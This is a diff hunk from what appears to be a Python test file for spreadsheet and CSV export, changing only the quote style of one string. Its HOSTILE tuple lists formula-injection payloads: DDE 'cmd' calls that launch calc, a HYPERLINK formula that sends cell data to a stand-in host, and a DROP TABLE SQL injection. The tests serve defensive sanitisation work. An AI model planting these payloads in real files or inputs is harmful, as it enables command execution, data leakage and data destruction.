@@ -14,7 +14,7 @@ from tests.helpers.lists import a_csv, a_workbook
 
 STARTS = ("=", "+", "-", "@", "\t", "\r")
 HOSTILE = (
-    "=HYPERLINK(\"http://x/?\"&A1,\"K1\")", "+1+cmd|'/C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+    '=HYPERLINK("http://x/?"&A1,"K1")', "+1+cmd|'/C calc'!A0", "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|'/C calc'!A0", "\tK5", "\rK6", "K7'); DROP TABLE weapon;--",
 )  # fmt: skip
 HEADER = ["Serial", "Type", "Make", "Model", "Remarks"]
